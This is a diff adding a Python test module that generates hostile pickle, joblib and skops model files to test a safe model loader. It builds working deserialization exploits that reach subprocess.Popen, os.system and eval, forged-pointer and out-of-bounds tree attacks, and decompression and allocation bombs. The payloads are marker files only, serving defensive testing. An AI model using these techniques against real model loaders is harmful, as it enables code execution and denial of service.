@@ -1,0 +1,236 @@
+"""Hostile model files, generated: every attack class modelpack must hold against.
+
+Each attack is a function of the folder to write into and a marker path (that a payload
+would create) returning the file's path. ``python tests/safety/hostile.py DIR`` writes the
+whole corpus, for trying it by hand; the suite calls the functions directly.
+"""
+
+from __future__ import annotations
+
+import copy
+import pickle
+import sys
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+
+
+def op_global(module: str, name: str) -> bytes:
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def op_value(value: Any) -> bytes:
+    """The opcodes that push ``value`` (no PROTO, no STOP)."""
+    data = pickle.dumps(value, protocol=2)
+    return data[2:-1]
+
+
+def call(module: str, name: str, *args: Any, proto: int = 2) -> bytes:
+    return bytes([0x80, proto]) + op_global(module, name) + op_value(args) + b"R."
+
+
+class Reduce:
+    """Pickles as ``func(*args)`` then BUILD ``state``: any global, any arguments."""
+
+    def __init__(self, func: Any, args: tuple[Any, ...], state: Any = None) -> None:
+        self.func, self.args, self.state = func, args, state
+
+    def __reduce__(self) -> Any:
+        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)
+
+
+def _forest(n_estimators: int = 3):
+    from sklearn.ensemble import RandomForestClassifier
+
+    rng = np.random.default_rng(0)
+    X = rng.normal(size=(80, 4))
+    return RandomForestClassifier(n_estimators=n_estimators, max_depth=3, random_state=0).fit(X, X[:, 0] > 0), X
+
+
+def _tree_with(mutate: Callable[[dict[str, Any]], None]) -> Any:
+    """A fitted forest whose first tree's state was changed by ``mutate`` (through Tree's reduce)."""
+    from sklearn.tree._tree import Tree
+
+    forest, _ = _forest()
+    tree = forest.estimators_[0].tree_
+    _, args, state = tree.__reduce__()
+    state = copy.deepcopy(state)
+    mutate(state)
+    forest.estimators_[0].tree_ = Reduce(Tree, args, state)
+    return forest
+
+
+def _write(folder: Path, name: str, data: bytes) -> Path:
+    path = folder / name
+    path.write_bytes(data)
+    return path
+
+
+# --- code execution -------------------------------------------------------------------------------
+
+
+def attribute_walk(folder: Path, marker: Path) -> Path:
+    """An allowlisted module's attribute chain reaching subprocess.Popen (the 92-byte exploit)."""
+    return _write(folder, "walk.pkl", call("sklearn._loss.loss", "np.f2py.subprocess.Popen", ["touch", str(marker)]))
+
+
+def partial_eval_in_transformer(folder: Path, marker: Path) -> Path:
+    import functools
+
+    from sklearn.preprocessing import FunctionTransformer
+
+    ft = FunctionTransformer(func=functools.partial(eval, f"open({str(marker)!r}, 'w')")).fit([[1.0]])
+    return _write(folder, "partial_eval.pkl", pickle.dumps(ft, protocol=5))
+
+
+def attrgetter_chain(folder: Path, marker: Path) -> Path:
+    import operator
+
+    return _write(folder, "attrgetter.pkl", pickle.dumps(Reduce(operator.attrgetter, ("system",)), protocol=4))
+
+
+def os_system_in_joblib(compress: Any) -> Callable[[Path, Path], Path]:
+    def attack(folder: Path, marker: Path) -> Path:
+        import os
+
+        import joblib
+
+        from conftest import models
+
+        pipe = copy.deepcopy(models()["pipeline_frame"].model)
+        pipe.steps[0][1].transformers_[1][1].mean_ = Reduce(os.system, (f"touch {marker}",))
+        path = folder / f"hidden_{compress}.joblib"
+        joblib.dump(pipe, path, compress=compress)
+        return path
+
+    attack.__name__ = f"os_system_in_joblib_{compress}"
+    return attack
+
+
+def booster_from_path(folder: Path, marker: Path) -> Path:
+    return _write(folder, "booster_path.pkl", call("xgboost.core", "Booster", None, None, "/etc/passwd"))
+
+
+def lightgbm_booster_from_dev_zero(folder: Path, marker: Path) -> Path:
+    return _write(folder, "lgbm_path.pkl", call("lightgbm.basic", "Booster", None, None, "/dev/zero"))
+
+
+# --- memory safety ----------------------------------------------------------------------------------
+
+
+def tree_child_out_of_range(folder: Path, marker: Path) -> Path:
+    def mutate(state: dict[str, Any]) -> None:
+        state["nodes"]["left_child"][0] = 10**9
+
+    return _write(folder, "tree_oob.pkl", pickle.dumps(_tree_with(mutate), protocol=5))
+
+
+def tree_cycle(folder: Path, marker: Path) -> Path:
+    def mutate(state: dict[str, Any]) -> None:
+        inner = np.flatnonzero(state["nodes"]["left_child"] != -1)
+        state["nodes"]["left_child"][inner[-1]] = 0  # back to the root: predict would never end
+
+    return _write(folder, "tree_cycle.pkl", pickle.dumps(_tree_with(mutate), protocol=5))
+
+
+def tree_feature_out_of_range(folder: Path, marker: Path) -> Path:
+    def mutate(state: dict[str, Any]) -> None:
+        state["nodes"]["feature"][0] = 10**6
+
+    return _write(folder, "tree_feature.pkl", pickle.dumps(_tree_with(mutate), protocol=5))
+
+
+def tree_short_n_classes(folder: Path, marker: Path) -> Path:
+    from sklearn.tree._tree import Tree
+
+    return _write(folder, "tree_ctor.pkl", pickle.dumps(Reduce(Tree, (4, np.array([2]), 50)), protocol=5))
+
+
+def dtype_hidden_object(folder: Path, marker: Path) -> Path:
+    """A structured dtype with an object field whose flags say "no objects": raw bytes become a pointer."""
+    fields = {"a": (np.dtype("f8"), 0), "b": (np.dtype("O"), 8)}
+    fake_dtype = Reduce(np.dtype, ("V16", False, True), (3, "|", None, ("a", "b"), fields, 16, 1, 16))
+    raw = (0x4141414141414141).to_bytes(8, "little") * 2
+    array = Reduce(np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), (1, (1,), fake_dtype, False, raw))
+    return _write(folder, "dtype_pointer.pkl", pickle.dumps({"coef_": array}, protocol=2))
+
+
+# --- memory and time ----------------------------------------------------------------------------------
+
+
+def bytearray_bomb(folder: Path, marker: Path) -> Path:
+    return _write(folder, "bytearray.pkl", call("builtins", "bytearray", 6 * 10**9))
+
+
+def range_list_bomb(folder: Path, marker: Path) -> Path:
+    data = b"\x80\x02" + op_global("builtins", "list") + op_global("builtins", "range") + op_value((3 * 10**8,)) + b"R" + b"\x85R."
+    return _write(folder, "range.pkl", data)
+
+
+def bytearray8_bomb(folder: Path, marker: Path) -> Path:
+    return _write(folder, "bytearray8.pkl", b"\x80\x05\x96" + (20 * 10**9).to_bytes(8, "little") + b".")
+
+
+def memo_index_bomb(folder: Path, marker: Path) -> Path:
+    """LONG_BINPUT at index 2**31: the C unpickler would allocate (and zero) 16 GiB for its memo."""
+    return _write(folder, "memo.pkl", b"\x80\x02N" + b"r" + (2**31 - 1).to_bytes(4, "little") + b".")
+
+
+def deep_nesting(folder: Path, marker: Path) -> Path:
+    return _write(folder, "deep.pkl", b"\x80\x02" + b"(" * 200_000 + b"N.")
+
+
+def joblib_zlib_bomb(folder: Path, marker: Path) -> Path:
+    """1.5 GB of zeros that compress to 1.5 MB, as one bytes object in a zlib joblib stream."""
+    import zlib
+
+    n = 3 * 10**9 // 2
+    compressor = zlib.compressobj(9)
+    parts = [compressor.compress(b"\x80\x04\x8e" + n.to_bytes(8, "little"))]
+    chunk = bytes(1 << 24)
+    for _ in range(n // len(chunk)):
+        parts.append(compressor.compress(chunk))
+    parts.append(compressor.compress(bytes(n % len(chunk)) + b"."))
+    parts.append(compressor.flush())
+    return _write(folder, "bomb.joblib", b"".join(parts))
+
+
+def skops_metadata_bomb(folder: Path, marker: Path) -> Path:
+    """A skops file whose modelpack.json member inflates to 1 GiB (1 MB on disk)."""
+    import skops.io as sio
+    from sklearn.linear_model import LogisticRegression
+
+    path = folder / "bomb.skops"
+    sio.dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), path)
+    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        with zf.open("modelpack.json", "w", force_zip64=True) as member:
+            chunk = b" " * (1 << 24)
+            for _ in range(1024 // 16):
+                member.write(chunk)
+    return path
+
+
+def unparsable_prefix(folder: Path, marker: Path) -> Path:
+    """An opcode no parser knows, then a payload: what hid globals from the old info."""
+    return _write(folder, "blind.pkl", b"\x80\x02\xff" + call("posix", "system", f"touch {marker}")[2:])
+
+
+ATTACKS: list[Callable[[Path, Path], Path]] = [
+    attribute_walk, partial_eval_in_transformer, attrgetter_chain,
+    *(os_system_in_joblib(c) for c in (0, 3, "gzip", "bz2", "lzma")),
+    booster_from_path, lightgbm_booster_from_dev_zero,
+    tree_child_out_of_range, tree_cycle, tree_feature_out_of_range, tree_short_n_classes, dtype_hidden_object,
+    bytearray_bomb, range_list_bomb, bytearray8_bomb, memo_index_bomb, deep_nesting, joblib_zlib_bomb,
+    skops_metadata_bomb, unparsable_prefix,
+]
+
+
+if __name__ == "__main__":
+    out = Path(sys.argv[1])
+    out.mkdir(parents=True, exist_ok=True)
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+    for attack in ATTACKS:
+        print(attack(out, out / "PWNED"))
